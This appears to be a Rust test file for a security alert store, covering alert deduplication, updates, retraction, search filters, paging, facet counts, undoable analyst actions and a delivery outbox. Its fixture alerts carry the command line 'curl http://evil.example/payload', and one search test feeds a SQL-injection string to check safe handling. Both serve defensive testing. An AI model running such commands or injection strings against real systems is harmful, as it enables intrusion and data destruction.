@@ -1,0 +1,636 @@
+//! Alerts: kept once, found, worked on, undone, delivered.
+
+#![expect(
+    clippy::unwrap_used,
+    reason = "the lints know test functions only, not what these call"
+)]
+
+use std::path::Path;
+use std::sync::Arc;
+
+use neph_event::Instant;
+use neph_store::{
+    AlertAction, AlertChange, AlertQuery, AlertSort, AlertState, Commit, Cursor, Database, DeliveryKind,
+    Facet, Limits, Selection, Severity, Store, StoreError, StoreOptions, StoredAlert, Verdict,
+};
+use serde_json::json;
+
+fn at(seconds: i64) -> Instant {
+    Instant { seconds, nanos: 0 }
+}
+
+fn open(folder: &Path) -> Store {
+    let limits = Limits {
+        min_free_bytes: 0,
+        ..Limits::default()
+    };
+    Store::open(folder, &StoreOptions { limits }).unwrap().0
+}
+
+fn store() -> (tempfile::TempDir, Store) {
+    let folder = tempfile::tempdir().unwrap();
+    let store = open(folder.path());
+    (folder, store)
+}
+
+const SEVERITIES: [&str; 4] = ["low", "medium", "high", "critical"];
+
+/// Alert number n as the rules would write it, with `extra` in its process.
+fn alert_with(number: usize, extra: &str) -> StoredAlert {
+    let document = json!({
+        "@timestamp": at(1000 + number as i64).to_string(),
+        "message": format!("On `web-{}`: `curl` ran", number % 5),
+        "event": {"id": format!("a{number:04}"), "start": at(900).to_string(), "end": at(1000).to_string(), "risk_score": number % 100},
+        "rule": {"id": format!("rule-{}", number % 3), "name": format!("Rule {}", number % 3), "version": "7"},
+        "threat": {"tactic": {"name": ["Execution"]}, "technique": {"id": ["T1059"], "subtechnique": {"id": [format!("T1059.00{}", number % 4)]}}},
+        "tags": ["Domain: Cloud", format!("Set: {}", number % 2)],
+        "host": {"name": format!("web-{}", number % 5)},
+        "user.name": ["www-data", "root"],
+        "process": {"name": "curl", "command_line": format!("curl http://evil.example/{extra}")},
+        "kibana.alert.severity": SEVERITIES.get(number % 4),
+        "neph": {"alert": {"join_keys": [{"fields": ["source.ip", "made.up"], "value": format!("10.0.0.{number}")}]}},
+    });
+    StoredAlert::from_document(document.to_string().into_bytes()).unwrap()
+}
+
+fn alert(number: usize) -> StoredAlert {
+    alert_with(number, "payload")
+}
+
+fn raise(
+    db: &Database,
+    alerts: impl IntoIterator<Item = AlertChange>,
+    outputs: &[&str],
+) -> neph_store::Committed {
+    let commit = Commit {
+        now: at(5000),
+        alerts: alerts.into_iter().collect(),
+        outputs: outputs.iter().map(|output| Arc::from(*output)).collect(),
+        ..Commit::default()
+    };
+    db.commit(commit).unwrap()
+}
+
+fn with_alerts(count: usize) -> (tempfile::TempDir, Store) {
+    let (folder, store) = store();
+    raise(
+        &store.db,
+        (0..count).map(|number| AlertChange::Raised(alert(number))),
+        &[],
+    );
+    (folder, store)
+}
+
+fn ids(db: &Database, query: &AlertQuery) -> String {
+    let page = db.search(query, AlertSort::Time, true, None, 1000).unwrap();
+    let numbers: Vec<&str> = page
+        .alerts
+        .iter()
+        .map(|found| found.alert.id.trim_start_matches("a0").trim_start_matches('0'))
+        .collect();
+    assert_eq!(db.count_alerts(query).unwrap(), numbers.len() as u64);
+    numbers.join(" ")
+}
+
+#[test]
+fn a_document_says_everything() {
+    let alert = alert(7);
+    assert_eq!(
+        (
+            alert.id.as_str(),
+            alert.rule_id.as_str(),
+            alert.rule_name.as_str()
+        ),
+        ("a0007", "rule-1", "Rule 1")
+    );
+    assert_eq!(
+        (alert.severity, alert.risk_score, alert.time),
+        (Severity::Critical, 7, at(1007))
+    );
+    assert_eq!(
+        (alert.first, alert.last, alert.count),
+        (Some(at(900)), Some(at(1000)), 1)
+    );
+    assert_eq!(alert.techniques, ["T1059", "T1059.003"]);
+    let entities: Vec<(&str, &str)> = alert
+        .entities
+        .iter()
+        .map(|(field, value)| (field.as_str(), value.as_str()))
+        .collect();
+    assert_eq!(
+        entities,
+        [
+            ("host.name", "web-2"),
+            ("process.name", "curl"),
+            ("source.ip", "10.0.0.7"),
+            ("user.name", "root"),
+            ("user.name", "www-data"),
+        ]
+    );
+    for wrong in ["", "[]", "{}", r#"{"event":{"id":"x"}}"#] {
+        assert!(
+            StoredAlert::from_document(wrong.as_bytes().to_vec()).is_err(),
+            "{wrong}"
+        );
+    }
+}
+
+#[test]
+fn an_alert_is_kept_once_whoever_repeats_it() {
+    let (folder, store) = store();
+    let first = raise(
+        &store.db,
+        [AlertChange::Raised(alert(1)), AlertChange::Raised(alert(1))],
+        &["mail", "file"],
+    );
+    assert_eq!(
+        (first.raised.as_slice(), first.repeated),
+        (["a0001".to_owned()].as_slice(), 1)
+    );
+    drop(store);
+    let store = open(folder.path());
+    let again = raise(
+        &store.db,
+        [AlertChange::Raised(alert(1)), AlertChange::Updated(alert(1))],
+        &["mail", "file"],
+    );
+    assert_eq!(
+        (again.raised.len(), again.updated.len(), again.repeated),
+        (0, 0, 2)
+    );
+    assert_eq!(store.db.due("mail", at(9000), 10).unwrap().len(), 1);
+    let kept = store.db.alert("a0001").unwrap();
+    assert_eq!(kept.alert, alert(1));
+    assert_eq!(
+        (kept.state, kept.created, kept.updates),
+        (AlertState::Open, at(5000), 0)
+    );
+    assert!(matches!(
+        store.db.alert("nothing"),
+        Err(StoreError::Missing { .. })
+    ));
+}
+
+#[test]
+fn updates_replace_what_the_pipeline_says_and_keep_what_analysts_did() {
+    let (_folder, store) = store();
+    raise(&store.db, [AlertChange::Raised(alert(1))], &["mail"]);
+    let mine = || Selection::Ids(vec!["a0001".to_owned()]);
+    store
+        .db
+        .act(mine(), AlertAction::Acknowledge, "ann", at(6000))
+        .unwrap();
+    store
+        .db
+        .act(
+            mine(),
+            AlertAction::AddTags {
+                tags: vec!["mine".into()],
+            },
+            "ann",
+            at(6000),
+        )
+        .unwrap();
+    let done = raise(
+        &store.db,
+        [AlertChange::Updated(alert_with(1, "second"))],
+        &["mail"],
+    );
+    assert_eq!(done.updated, ["a0001"]);
+    let now = store.db.alert("a0001").unwrap();
+    assert_eq!(
+        (now.alert, now.state, now.updates),
+        (alert_with(1, "second"), AlertState::Acknowledged, 1)
+    );
+    assert_eq!(now.labels, ["mine"]);
+    // It waits to be delivered in its newest form, once.
+    let due = store.db.due("mail", at(9000), 10).unwrap();
+    assert_eq!((due.len(), due[0].kind), (1, DeliveryKind::Raised));
+    assert_eq!(due[0].alert.alert.document, alert_with(1, "second").document);
+    assert_eq!(ids(&store.db, &query(|query| query.text = "second".into())), "1");
+    assert_eq!(ids(&store.db, &query(|query| query.text = "payload".into())), "");
+    // Delivered, the next update is told again.
+    store.db.delivered(&[due[0].seq]).unwrap();
+    raise(
+        &store.db,
+        [AlertChange::Updated(alert_with(1, "third"))],
+        &["mail"],
+    );
+    assert_eq!(
+        store.db.due("mail", at(9000), 10).unwrap()[0].kind,
+        DeliveryKind::Updated
+    );
+}
+
+#[test]
+fn a_withdrawn_alert_is_kept_and_may_come_back() {
+    let (_folder, store) = store();
+    let retract = || AlertChange::Retracted { id: "a0001".into() };
+    raise(
+        &store.db,
+        [AlertChange::Raised(alert(1)), retract(), retract()],
+        &["mail"],
+    );
+    assert_eq!(ids(&store.db, &AlertQuery::default()), "");
+    assert_eq!(ids(&store.db, &query(|query| query.retracted = true)), "1");
+    let kinds = |db: &Database| {
+        db.due("mail", at(9000), 10)
+            .unwrap()
+            .iter()
+            .map(|one| one.kind)
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(kinds(&store.db), [DeliveryKind::Raised, DeliveryKind::Retracted]);
+    raise(&store.db, [AlertChange::Raised(alert(1))], &["mail"]);
+    assert_eq!(ids(&store.db, &AlertQuery::default()), "1");
+    assert_eq!(
+        raise(
+            &store.db,
+            [AlertChange::Retracted { id: "unknown".into() }],
+            &["mail"]
+        ),
+        Default::default()
+    );
+}
+
+fn query(change: impl FnOnce(&mut AlertQuery)) -> AlertQuery {
+    let mut query = AlertQuery::default();
+    change(&mut query);
+    query
+}
+
+#[test]
+fn every_filter_finds_its_own() {
+    let (_folder, store) = with_alerts(12);
+    let db = &store.db;
+    let close = AlertAction::Close {
+        verdict: Verdict::Benign,
+        reason: "known".into(),
+    };
+    db.act(
+        Selection::Ids(vec!["a0002".into(), "a0003".into()]),
+        close,
+        "ann",
+        at(6000),
+    )
+    .unwrap();
+    let assign = AlertAction::Assign {
+        assignee: Some("bob".into()),
+    };
+    db.act(Selection::Ids(vec!["a0004".into()]), assign, "ann", at(6000))
+        .unwrap();
+    let tag = AlertAction::AddTags {
+        tags: vec!["week".into()],
+    };
+    db.act(Selection::Ids(vec!["a0005".into()]), tag, "ann", at(6000))
+        .unwrap();
+    let find = |change: fn(&mut AlertQuery)| ids(db, &query(change));
+    assert_eq!(find(|_| {}), " 1 2 3 4 5 6 7 8 9 10 11");
+    assert_eq!(find(|query| query.states = vec![AlertState::Closed]), "2 3");
+    assert_eq!(
+        find(|query| query.states = vec![AlertState::Closed, AlertState::Open]),
+        " 1 2 3 4 5 6 7 8 9 10 11"
+    );
+    assert_eq!(find(|query| query.verdicts = vec![Verdict::Benign]), "2 3");
+    assert_eq!(find(|query| query.verdicts = vec![Verdict::FalsePositive]), "");
+    assert_eq!(
+        find(|query| query.severities = vec![Severity::Critical]),
+        "3 7 11"
+    );
+    assert_eq!(find(|query| query.rules = vec!["rule-0".into()]), " 3 6 9");
+    assert_eq!(find(|query| query.techniques = vec!["T1059.001".into()]), "1 5 9");
+    assert_eq!(
+        find(|query| query.techniques = vec!["T1059".into()]),
+        " 1 2 3 4 5 6 7 8 9 10 11"
+    );
+    assert_eq!(find(|query| query.techniques = vec!["T105".into()]), "");
+    assert_eq!(
+        find(|query| query.tactics = vec!["Execution".into()]),
+        " 1 2 3 4 5 6 7 8 9 10 11"
+    );
+    assert_eq!(find(|query| query.tags = vec!["Set: 1".into()]), "1 3 5 7 9 11");
+    assert_eq!(find(|query| query.tags = vec!["week".into()]), "5");
+    assert_eq!(find(|query| query.assignees = vec![Some("bob".into())]), "4");
+    assert_eq!(
+        find(|query| query.assignees = vec![None]),
+        " 1 2 3 5 6 7 8 9 10 11"
+    );
+    assert_eq!(
+        find(|query| query.entities = vec![("host.name".into(), "web-1".into())]),
+        "1 6 11"
+    );
+    assert_eq!(
+        find(|query| query.entities = vec![("".into(), "10.0.0.8".into())]),
+        "8"
+    );
+    let both = [
+        ("host.name", "web-1"),
+        ("host.name", "web-2"),
+        ("source.ip", "10.0.0.7"),
+    ];
+    let both = both
+        .map(|(field, value)| (field.to_owned(), value.to_owned()))
+        .to_vec();
+    assert_eq!(ids(db, &query(|query| query.entities = both)), "7");
+    assert_eq!(find(|query| query.text = "web-3".into()), "3 8");
+    assert_eq!(
+        find(|query| query.text = "CURL evil.exa".into()),
+        " 1 2 3 4 5 6 7 8 9 10 11"
+    );
+    assert_eq!(find(|query| query.text = "a0007".into()), "7");
+    assert_eq!(find(|query| query.text = "nowhere".into()), "");
+    assert_eq!(
+        find(|query| (query.from, query.to) = (Some(at(1003)), Some(at(1006)))),
+        "3 4 5"
+    );
+    let several = |query: &mut AlertQuery| {
+        query.rules = vec!["rule-0".into()];
+        query.text = "web".into();
+        query.severities = vec![Severity::Critical, Severity::High];
+    };
+    assert_eq!(find(several), "3 6");
+    // What people type is words, not a language.
+    for odd in [
+        "\"",
+        "a AND",
+        "NEAR(",
+        "*",
+        "-",
+        "text:",
+        "(",
+        "'; DROP TABLE alerts; --",
+        "\u{0}",
+    ] {
+        db.search(
+            &query(|query| query.text = odd.into()),
+            AlertSort::Time,
+            false,
+            None,
+            10,
+        )
+        .unwrap();
+    }
+}
+
+#[test]
+fn pages_follow_on_one_another_in_every_order() {
+    let (_folder, store) = with_alerts(57);
+    let db = &store.db;
+    for sort in [
+        AlertSort::Time,
+        AlertSort::Severity,
+        AlertSort::Risk,
+        AlertSort::Updated,
+    ] {
+        for ascending in [false, true] {
+            let whole = db
+                .search(&AlertQuery::default(), sort, ascending, None, 1000)
+                .unwrap();
+            assert_eq!((whole.alerts.len(), &whole.next), (57, &None));
+            let mut paged = Vec::new();
+            let mut after: Option<Cursor> = None;
+            loop {
+                let page = db
+                    .search(&AlertQuery::default(), sort, ascending, after.as_ref(), 10)
+                    .unwrap();
+                paged.extend(page.alerts);
+                let Some(next) = page.next else { break };
+                after = Cursor::parse(&next.to_string());
+                assert_eq!(after.as_ref(), Some(&next));
+            }
+            assert_eq!(paged, whole.alerts, "{sort:?} {ascending}");
+            let keys: Vec<_> = paged
+                .iter()
+                .map(|found| match sort {
+                    AlertSort::Severity => (found.alert.severity as i64, found.alert.time),
+                    AlertSort::Risk => (found.alert.risk_score.into(), found.alert.time),
+                    AlertSort::Time => (0, found.alert.time),
+                    AlertSort::Updated => (0, found.updated),
+                })
+                .collect();
+            assert!(if ascending {
+                keys.is_sorted()
+            } else {
+                keys.iter().rev().is_sorted()
+            });
+        }
+    }
+    for wrong in ["", "1", "1_2", "1_2_3_4", "a_b_c"] {
+        assert_eq!(Cursor::parse(wrong), None);
+    }
+}
+
+#[test]
+fn facets_count_what_the_query_finds() {
+    let (_folder, store) = with_alerts(12);
+    let db = &store.db;
+    let count = |facet: Facet| {
+        let counts = db
+            .count_by(&query(|query| query.rules = vec!["rule-0".into()]), &facet, 10)
+            .unwrap();
+        counts
+            .iter()
+            .map(|(name, count)| format!("{name}={count}"))
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    assert_eq!(count(Facet::State), "open=4");
+    assert_eq!(count(Facet::Severity), "low=1 medium=1 high=1 critical=1");
+    assert_eq!(count(Facet::Verdict), "");
+    assert_eq!(count(Facet::Rule), "rule-0=4");
+    assert_eq!(
+        count(Facet::Technique),
+        "T1059=4 T1059.000=1 T1059.001=1 T1059.002=1 T1059.003=1"
+    );
+    assert_eq!(count(Facet::Tactic), "Execution=4");
+    assert_eq!(count(Facet::Tag), "Domain: Cloud=4 Set: 0=2 Set: 1=2");
+    assert_eq!(count(Facet::Assignee), "=4");
+    assert_eq!(
+        count(Facet::Entity("host.name".into())),
+        "web-0=1 web-1=1 web-3=1 web-4=1"
+    );
+    assert_eq!(count(Facet::Day), "1970-01-01=4");
+}
+
+#[test]
+fn actions_are_written_down_and_can_be_undone() {
+    let (_folder, store) = with_alerts(6);
+    let db = &store.db;
+    let close = AlertAction::Close {
+        verdict: Verdict::FalsePositive,
+        reason: "scanner".into(),
+    };
+    let even = query(|query| query.tags = vec!["Set: 0".into()]);
+    let done = db
+        .act(Selection::Query(Box::new(even)), close.clone(), "ann", at(6000))
+        .unwrap();
+    assert_eq!((done.changed, done.unchanged, done.missing.len()), (3, 0, 0));
+    let some = Selection::Ids(vec!["a0000".into(), "a0001".into(), "gone".into()]);
+    let again = db.act(some, close, "bob", at(6001)).unwrap();
+    assert_eq!(
+        (again.changed, again.unchanged, again.missing),
+        (1, 1, vec!["gone".to_owned()])
+    );
+    let note = AlertAction::Note {
+        text: "look at the proxy".into(),
+    };
+    db.act(Selection::Ids(vec!["a0002".into()]), note, "bob", at(6002))
+        .unwrap();
+    let assign = AlertAction::Assign {
+        assignee: Some("eve".into()),
+    };
+    db.act(Selection::Ids(vec!["a0004".into()]), assign, "eve", at(6003))
+        .unwrap();
+
+    let closed = db.alert("a0002").unwrap();
+    assert_eq!(
+        (closed.state, closed.verdict, closed.closed),
+        (AlertState::Closed, Some(Verdict::FalsePositive), Some(at(6000)))
+    );
+    assert_eq!(closed.close_reason.as_deref(), Some("scanner"));
+
+    // Ann undoes hers: what Eve touched since stays.
+    let undone = db.undo(None, "ann", at(6010)).unwrap();
+    assert_eq!(
+        (undone.action, undone.restored, undone.changed_since),
+        (done.action, 2, 1)
+    );
+    let reopened = db.alert("a0002").unwrap();
+    assert_eq!(
+        (
+            reopened.state,
+            reopened.verdict,
+            reopened.closed,
+            reopened.close_reason
+        ),
+        (AlertState::Open, None, None, None)
+    );
+    assert_eq!(db.alert("a0004").unwrap().state, AlertState::Closed);
+    assert!(
+        matches!(db.undo(None, "ann", at(6011)), Err(StoreError::Missing { .. })),
+        "nothing is left"
+    );
+    assert!(
+        matches!(
+            db.undo(Some(done.action), "bob", at(6011)),
+            Err(StoreError::Missing { .. })
+        ),
+        "not twice"
+    );
+    // Bob's last one is a note.
+    assert_eq!(db.undo(None, "bob", at(6012)).unwrap().restored, 1);
+
+    let history = db.alert_history("a0002").unwrap();
+    let lines: Vec<String> = history
+        .iter()
+        .map(|one| format!("{} {} {} {}", one.at.seconds, one.who, one.what, one.undone))
+        .collect();
+    assert_eq!(
+        lines,
+        [
+            "6000 ann close true",
+            "6002 bob note true",
+            "6010 ann undo false",
+            "6012 bob undo false"
+        ]
+    );
+    assert_eq!(
+        history[0].details,
+        r#"{"action":"close","verdict":"false_positive","reason":"scanner"}"#
+    );
+    assert_eq!(history[0].before, r#"{"state":"open"}"#);
+    assert_eq!(history[2].after, r#"{"state":"open"}"#);
+
+    for wrong in [
+        AlertAction::Note { text: " ".into() },
+        AlertAction::AddTags { tags: vec![] },
+        AlertAction::Assign {
+            assignee: Some(String::new()),
+        },
+        AlertAction::Note {
+            text: "x".repeat(100_000),
+        },
+    ] {
+        let result = db.act(Selection::Ids(vec!["a0001".into()]), wrong, "ann", at(1));
+        assert!(matches!(result, Err(StoreError::Invalid { .. })));
+    }
+}
+
+#[test]
+fn old_closed_alerts_go_with_all_that_is_theirs() {
+    let (_folder, store) = store();
+    let db = &store.db;
+    raise(
+        db,
+        (0..4).map(|number| AlertChange::Raised(alert(number))),
+        &["mail"],
+    );
+    let close = AlertAction::Close {
+        verdict: Verdict::Benign,
+        reason: String::new(),
+    };
+    let some = Selection::Ids(vec!["a0000".into(), "a0001".into()]);
+    db.act(some, close.clone(), "ann", at(6000)).unwrap();
+    db.act(Selection::Ids(vec!["a0002".into()]), close, "ann", at(7000))
+        .unwrap();
+    assert_eq!(db.prune_alerts(at(6500)).unwrap(), 0, "they wait to be delivered");
+    let due: Vec<i64> = db
+        .due("mail", at(9000), 10)
+        .unwrap()
+        .iter()
+        .map(|one| one.seq)
+        .collect();
+    db.delivered(&due).unwrap();
+    assert_eq!(db.prune_alerts(at(6500)).unwrap(), 2);
+    assert_eq!(ids(db, &AlertQuery::default()), "2 3");
+    assert_eq!(ids(db, &query(|query| query.text = "web-0".into())), "");
+    assert_eq!(
+        db.count_by(&AlertQuery::default(), &Facet::Entity("host.name".into()), 9)
+            .unwrap()
+            .len(),
+        2
+    );
+}
+
+#[test]
+fn the_outbox_tries_again_gives_up_and_revives() {
+    let (folder, store) = store();
+    raise(
+        &store.db,
+        (0..3).map(|number| AlertChange::Raised(alert(number))),
+        &["mail", "hook"],
+    );
+    drop(store);
+    let db = open(folder.path()).db;
+    assert!(
+        db.due("mail", at(4999), 10).unwrap().is_empty(),
+        "not due before it was raised"
+    );
+    let due = db.due("mail", at(5000), 2).unwrap();
+    assert_eq!(
+        due.iter()
+            .map(|one| one.alert.alert.id.as_str())
+            .collect::<Vec<_>>(),
+        ["a0000", "a0001"]
+    );
+    db.failed(&[due[0].seq], "connection refused", at(5100)).unwrap();
+    db.dead(&[due[1].seq], "status 400", at(5000)).unwrap();
+    let rest = db.due("mail", at(5050), 10).unwrap();
+    assert_eq!(rest.len(), 1);
+    db.delivered(&[rest[0].seq]).unwrap();
+    let again = db.due("mail", at(5100), 10).unwrap();
+    assert_eq!(
+        (again.len(), again[0].attempts, again[0].error.as_deref()),
+        (1, 1, Some("connection refused"))
+    );
+    assert_eq!(db.dead_letters("mail", 10).unwrap()[0].alert.alert.id, "a0001");
+    let counts = db.outbox_counts().unwrap();
+    let of = |name: &str| counts.iter().find(|one| one.output == name).unwrap();
+    assert_eq!(
+        (of("mail").waiting, of("mail").dead, of("mail").delivered),
+        (1, 1, 1)
+    );
+    assert_eq!((of("hook").waiting, of("hook").oldest), (3, Some(at(5000))));
+    assert_eq!(db.revive("mail", at(6000)).unwrap(), 1);
+    assert_eq!(db.due("mail", at(6000), 10).unwrap().len(), 2);
+}
